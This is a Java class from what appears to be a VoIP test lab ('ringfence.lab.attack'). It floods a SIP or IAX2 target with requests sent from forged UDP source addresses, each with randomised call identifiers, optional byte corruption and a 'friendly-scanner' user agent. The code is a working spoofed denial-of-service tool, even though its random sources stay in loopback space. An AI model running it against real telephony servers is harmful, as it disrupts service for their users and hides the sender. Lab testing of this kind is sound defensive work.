package org.ringfence.lab.attack;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.UnknownHostException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.SplittableRandom;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;
import org.ringfence.lab.peer.PeerFailure;

/**
 * Requests with forged sources at a steady rate, each with a Call-ID, a branch and a tag of its
 * own. Bounded in number and time by whoever closes it.
 */
final class Flood implements AutoCloseable {
  /** Sources at random lie in 127.64.0.0/10, where nobody honest is. */
  static final String STRANGERS = "127.64.0.0/10";

  private static final int DIGITS = 9;
  private static final long TICK_NS = 1_000_000L;
  private static final String MARK = "#########";

  private final SpoofedUdp udp;
  private final InetSocketAddress target;
  private final List<InetSocketAddress> sources;
  private final byte[] template;
  private final int[] marks;
  private final int broken;
  private final int ratePerSecond;
  private final AtomicLong sent = new AtomicLong();
  private final SplittableRandom random;
  private final Thread thread;
  private volatile boolean closed;

  /**
   * Begins at once.
   *
   * @param method INVITE, REGISTER or another
   * @param sources whose addresses it writes; none for random ones
   * @param broken how many bytes of each are changed at random
   */
  Flood(
      String method,
      String domain,
      InetSocketAddress target,
      List<InetSocketAddress> sources,
      int broken,
      int ratePerSecond,
      long seed) {
    this.broken = broken;
    this.target = target;
    this.sources = List.copyOf(sources);
    this.ratePerSecond = ratePerSecond;
    this.random = new SplittableRandom(seed);
    this.template = template(method, domain).getBytes(StandardCharsets.US_ASCII);
    this.marks = marks(template);
    try {
      udp = new SpoofedUdp();
    } catch (IOException e) {
      throw new PeerFailure("nothing can be forged here", e);
    }
    thread = Thread.ofPlatform().daemon().name("flood").start(this::run);
  }

  /**
   * The same in IAX2, where it is served: each frame of a call of its own, from a stranger.
   *
   * @param frame as it goes on the wire
   */
  Flood(byte[] frame, InetSocketAddress target, int ratePerSecond, long seed) {
    this.broken = 0;
    this.target = target;
    this.sources = List.of();
    this.ratePerSecond = ratePerSecond;
    this.random = new SplittableRandom(seed);
    this.template = frame.clone();
    this.marks = new int[0];
    try {
      udp = new SpoofedUdp();
    } catch (IOException e) {
      throw new PeerFailure("nothing can be forged here", e);
    }
    thread = Thread.ofPlatform().daemon().name("flood").start(this::run);
  }

  private static String template(String method, String domain) {
    String body =
        method.equals("INVITE")
            ? "v=0\no=- 1 1 IN IP4 127.0.0.1\ns=-\nc=IN IP4 127.0.0.1\nt=0 0\n"
                + "m=audio 9000 RTP/AVP 0\na=rtpmap:0 PCMU/8000\n"
            : "";
    body = body.replace("\n", "\r\n");
    return """
    %1$s sip:3001@%2$s SIP/2.0
    Via: SIP/2.0/UDP 198.51.100.1:5060;branch=z9hG4bK#########;rport
    Max-Forwards: 70
    From: <sip:3000@%2$s>;tag=#########
    To: <sip:3001@%2$s>
    Call-ID: #########@flood
    CSeq: 1 %1$s
    Contact: <sip:3000@198.51.100.1:5060>
    User-Agent: friendly-scanner
    Expires: 600
    %3$sContent-Length: %4$d

    """
            .formatted(
                method,
                domain,
                body.isEmpty() ? "" : "Content-Type: application/sdp\n",
                body.length())
            .replace("\n", "\r\n")
        + body;
  }

  private static int[] marks(byte[] template) {
    String text = new String(template, StandardCharsets.US_ASCII);
    int first = text.indexOf(MARK);
    int second = text.indexOf(MARK, first + DIGITS);
    return new int[] {first, second, text.indexOf(MARK, second + DIGITS)};
  }

  /** How many went out. */
  long sent() {
    return sent.get();
  }

  private void run() {
    long startNs = System.nanoTime();
    try {
      while (!closed) {
        double seconds = (System.nanoTime() - startNs) / 1e9;
        long due = (long) (seconds * ratePerSecond);
        // What this machine could not send in time is not made up for.
        long behind = Math.min(due - sent.get(), Math.max(1, ratePerSecond / 50));
        for (long i = 0; i < behind && !closed; i++) one();
        if (sent.get() < due) startNs += (long) ((due - sent.get()) * 1e9 / ratePerSecond);
        LockSupport.parkNanos(TICK_NS);
      }
    } catch (IOException e) {
      throw new PeerFailure("the flood cannot send", e);
    }
  }

  private void one() throws IOException {
    for (int mark : marks) {
      int value = random.nextInt(1_000_000_000);
      for (int digit = DIGITS - 1; digit >= 0; digit--, value /= 10) {
        template[mark + digit] = (byte) ('0' + value % 10);
      }
    }
    if (marks.length == 0) {
      int call = 0x8000 | random.nextInt(2, 0x7FFF);
      template[0] = (byte) (call >>> 8);
      template[1] = (byte) call;
    }
    long number = sent.get();
    InetSocketAddress from =
        sources.isEmpty() ? stranger() : sources.get((int) (number % sources.size()));
    udp.send(from, target, broken == 0 ? template : changed());
    sent.set(number + 1);
  }

  private byte[] changed() {
    byte[] bytes = template.clone();
    for (int i = 0; i < broken; i++) {
      bytes[random.nextInt(bytes.length)] = (byte) random.nextInt();
    }
    return bytes;
  }

  private InetSocketAddress stranger() {
    int bits = random.nextInt();
    byte[] ip = {127, (byte) (64 | bits & 63), (byte) (bits >> 8), (byte) (bits >> 16)};
    try {
      return new InetSocketAddress(InetAddress.getByAddress(ip), 1_024 + (bits >>> 18));
    } catch (UnknownHostException e) {
      throw new IllegalStateException(e);
    }
  }

  @Override
  public void close() {
    closed = true;
    try {
      thread.join();
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
    udp.close();
  }
}
